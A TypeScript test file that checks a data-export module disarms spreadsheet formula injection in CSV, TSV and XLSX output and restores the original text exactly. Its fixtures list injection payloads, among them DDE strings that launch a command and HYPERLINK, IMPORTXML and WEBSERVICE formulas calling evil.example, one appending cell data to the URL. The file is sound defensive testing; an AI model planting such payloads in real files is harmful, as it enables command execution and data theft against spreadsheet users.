import { execFileSync } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { guarded, unguarded } from '../../../shared/formula-guard.ts'
import { exportDataset } from '../grid/export.ts'
import type { TestSession } from '../import/session.test-support.ts'
import { personasWorld } from '../personas/personas.test-support.ts'
import { cellsOf } from './read-file.test-support.ts'
import { writeExport } from './write-export.ts'

const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\ufeff=', '＝', '＋', '－', '＠', '\t', '\n']
const ends = [
  '1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.example?x="&A1,"click")', 'SUM(1+1)*cmd|\' /C calc\'!A0', 'IMPORTXML("http://evil.example","//a")', 'WEBSERVICE("http://evil.example")', 'DDE("cmd";"/C calc";"x")', '"quoted",next', 'a;b\tc', "'@SUM(1)",
]
const cells = starts.flatMap((start) => ends.map((end) => start + end))
const runs = /^[\s\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/

let session: TestSession
beforeAll(async () => {
  session = await personasWorld(cells.map((name, index) => ({ record_id: String(index), name, title: 'CEO' })))
})
afterAll(() => session.dispose())

const signal = new AbortController().signal
const write = (format: 'csv' | 'tsv' | 'xlsx') =>
  writeExport(session.opened, {
    kind: 'formulas', audience: 'sales', format, pseudonymised: false, dataDirectory: session.folder, columns: [{ name: 'cell', header: '=Header' }],
    source: { given: cells.map((cell) => ({ person_id: null, contact_record_id: null, email: null, cell })) },
  }, signal)

test('160 cells that a spreadsheet would run are disarmed in CSV and TSV files, headers too, and come back as they were', async () => {
  expect(cells).toHaveLength(160)
  for (const format of ['csv', 'tsv'] as const) {
    const { path } = await write(format)
    const text = await readFile(path, 'utf8')
    expect(text.startsWith(`"'=Header"\r\n`)).toBe(true)
    const fields = [...text.matchAll(/"((?:[^"]|"")*)"\r\n/g)].map(([, field = '']) => field.replaceAll('""', '"')).slice(1)
    expect(fields.filter((field) => runs.test(field))).toEqual([])
    expect(fields.map(unguarded)).toEqual(cells.map((cell) => cell.replace(/^\ufeff/, '')))
  }
})

test('a workbook holds them as text: no formula, no link', async () => {
  const { path } = await write('xlsx')
  const sheet = execFileSync('unzip', ['-p', path, 'xl/worksheets/*.xml'], { encoding: 'utf8' })
  expect(sheet).not.toMatch(/<f[ >]|<hyperlink/)
  const read = (await cellsOf(path, session.opened.scratch)).filter((cell) => cell !== '')
  expect(read).toHaveLength(160)
  expect(read.filter((cell) => runs.test(cell))).toEqual([])
})

test('a grid’s CSV export disarms them too', async () => {
  const { path } = await exportDataset({ workspace: session.opened, dataDirectory: session.folder, request: { dataset: 'contacts', columns: ['name'], filter: [], search: '', sort: [], policy: 'reliable', fileType: 'csv' }, report: () => undefined }, signal)
  const read = await cellsOf(path, session.opened.scratch)
  expect(read.length).toBeGreaterThan(100)
  expect(read.filter((cell) => runs.test(cell))).toEqual([])
})

test('guarding is undone exactly, also where the text begins with an apostrophe', () => {
  for (const cell of [...cells, "'=1", "''=1", "'quote", "'", '', 'plain', "' =x"]) expect(unguarded(guarded(cell))).toBe(cell)
  for (const cell of ['plain', "'quote", '1-2', 'a=b', '', 'ann@x.com']) expect(guarded(cell)).toBe(cell)
})
